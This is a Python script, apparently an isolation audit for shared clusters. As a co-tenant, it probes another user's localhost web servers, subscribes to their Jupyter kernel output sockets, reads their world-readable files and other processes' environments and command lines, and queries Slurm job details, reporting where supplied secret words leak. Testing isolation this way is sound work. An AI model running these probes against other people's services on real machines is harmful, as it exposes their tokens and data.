"""What a neighbour on the same machine can do about somebody's servers, without anything clever.

attack.py VICTIM WORD...: prints what was got, {ATTACK: [EVIDENCE, ...]}, as JSON. The words are the victim's own: what
a page shows, what a token is. The Python of an environment runs it, for zmq.
"""

import json
import os
import pwd
import re
import socket
import stat
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path

import zmq

Address = str | tuple[str, int]

# Whatever serves a page, one of these shows that it can be read.
PAGES = ["/", "/data/runs", "/data/plugin/scalars/tags", "/api", "/api/contents", "/tree"]
SECONDS = 1
# Where a user's server could leave something; not all that the user has ever installed.
PLACES = "/home/{} /tmp /var/tmp /dev/shm /run /mnt/shared"
LISTENING = "0A"
# Where there is Slurm, there is this.
MUNGE = Path("/run/munge/munge.socket.2")
WHOLE = 1 << 20


def tcp_listeners(uid: int) -> list[int]:
    """The ports on which the victim listens; everybody may know."""
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in Path(table).read_text().splitlines()[1:]:
            fields = line.split()
            if fields[3] == LISTENING and int(fields[7]) == uid:
                ports.add(int(fields[1].rsplit(":", 1)[1], 16))
    return sorted(ports)


def unix_sockets(victim: str) -> list[str]:
    """The names of all sockets that may be the victim's, a leading null byte for an abstract one."""
    lines = Path("/proc/net/unix").read_text().splitlines()[1:]
    names = {line.split(None, 7)[7] for line in lines if len(line.split(None, 7)) == 8}  # noqa: PLR2004 - columns
    # Some that are bound may not be listed to others: whatever can be seen in the folders, too.
    names.update(str(path) for path in files(victim, sockets=True))
    return sorted(name.replace("@", "\0", 1) if name.startswith("@") else name for name in names)


def files(victim: str, sockets: bool = False) -> Iterator[Path]:
    uid = pwd.getpwnam(victim).pw_uid
    for place in PLACES.format(victim).split():
        for folder, _, names in os.walk(place):
            for name in names:
                path = Path(folder, name)
                try:
                    status = path.lstat()
                except OSError:
                    continue
                kind = stat.S_ISSOCK if sockets else stat.S_ISREG
                if status.st_uid == uid and kind(status.st_mode):
                    yield path


def ask(address: Address, page: str) -> str:
    family = socket.AF_UNIX if isinstance(address, str) else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as line:
        line.settimeout(SECONDS)
        line.connect(address)
        line.sendall(f"GET {page} HTTP/1.0\r\nHost: localhost\r\n\r\n".encode())
        answer = b""
        while len(answer) < WHOLE:
            got = line.recv(65536)
            if not got:
                break
            answer += got
    return answer.decode(errors="replace")


def reads_pages(addresses: list[Address], words: list[str]) -> list[str]:
    """Whatever answers with a word of the victim's."""
    got = []
    for address in addresses:
        for page in PAGES:
            try:
                answer = ask(address, page)
            except OSError:
                break
            got += [f"{address!r}{page} says {word}" for word in words if word in answer]
    return got


def reads_kernels(addresses: list[str], words: list[str]) -> list[str]:
    """What a notebook prints comes from a socket to which anybody may subscribe who can connect."""
    context = zmq.Context()
    poller = zmq.Poller()
    lines = {}
    for address in addresses:
        line = context.socket(zmq.SUB)
        line.linger = 0
        line.setsockopt(zmq.SUBSCRIBE, b"")
        line.connect(address)
        poller.register(line, zmq.POLLIN)
        lines[line] = address
    got: set[str] = set()
    deadline = time.monotonic() + SECONDS
    while time.monotonic() < deadline:
        for line, _ in poller.poll(200):
            said = b"".join(line.recv_multipart()).decode(errors="replace")
            got.update(f"{lines[line]} says {word}" for word in words if word in said)
    return sorted(got)


def reads_files(victim: str, words: list[str]) -> list[str]:
    got = []
    for path in files(victim):
        try:
            with path.open("rb") as file:
                text = file.read(WHOLE).decode(errors="replace")
        except OSError:
            continue
        got += [f"{path} says {word}" for word in words if word in text]
    return got


def reads_processes(words: list[str]) -> list[str]:
    """Command lines and environments, and what Slurm tells everybody about a job."""
    texts = {}
    for process in Path("/proc").glob("[0-9]*"):
        with suppress(OSError):
            if process.stat().st_uid == os.getuid():
                continue
        for name in ("cmdline", "environ", "comm"):
            try:
                texts[str(process / name)] = (process / name).read_bytes().decode(errors="replace")
            except OSError:
                continue
        for link in [process / "cwd", process / "exe", *list_folder(process / "fd")]:
            try:
                texts[str(link)] = str(link.readlink())
            except OSError:
                continue
    if MUNGE.exists():
        for command in (["scontrol", "show", "job", "-dd"], ["squeue", "--format=%all"]):
            texts[" ".join(command)] = subprocess.run(command, stdout=subprocess.PIPE, check=True).stdout.decode()
    # What is in hex can be read, too.
    for name, text in list(texts.items()):
        decoded = [bytes.fromhex(found).decode(errors="replace") for found in re.findall(r"\b(?:[0-9a-f]{2})+\b", text)]
        texts[name] += " ".join(decoded)
    return [f"{name} says {word}" for name, text in texts.items() for word in words if word in text]


def list_folder(folder: Path) -> list[Path]:
    try:
        return list(folder.iterdir())
    except OSError:
        return []


def main(victim: str, *words: str) -> None:
    ports = tcp_listeners(pwd.getpwnam(victim).pw_uid)
    sockets = unix_sockets(victim)
    got: dict[str, list[str]] = {
        "listeners": [f"port {port}" for port in ports],
        "page": reads_pages([("127.0.0.1", port) for port in ports] + list(sockets), list(words)),
        "kernel": reads_kernels(
            [f"tcp://127.0.0.1:{port}" for port in ports] + ["ipc://" + name.replace("\0", "@") for name in sockets],
            list(words),
        ),
        "files": reads_files(victim, list(words)),
        "processes": reads_processes(list(words)),
    }
    print(json.dumps(got))


if __name__ == "__main__":
    main(*sys.argv[1:])
